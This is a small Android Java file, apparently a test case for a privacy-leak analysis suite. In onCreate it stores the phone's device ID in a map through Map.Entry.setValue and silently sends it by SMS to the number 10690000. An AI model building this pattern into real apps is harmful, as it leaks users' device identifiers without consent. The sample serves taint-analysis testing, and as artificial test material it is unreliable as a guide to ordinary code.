package cn.privlens.suite.entry_set_value;

import android.app.*;
import android.content.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.regex.*;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Map<String, String> map = new LinkedHashMap<>();
        map.put("k", "v");
        String seen = "";
        Iterator<Map.Entry<String, String>> it = map.entrySet().iterator();
        while (it.hasNext()) {
            Map.Entry<String, String> entry = it.next();
            entry.setValue(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
            seen = entry.getKey();
        }
        SmsManager.getDefault().sendTextMessage("10690000", null, map.get("k"), null, null);
    }

}
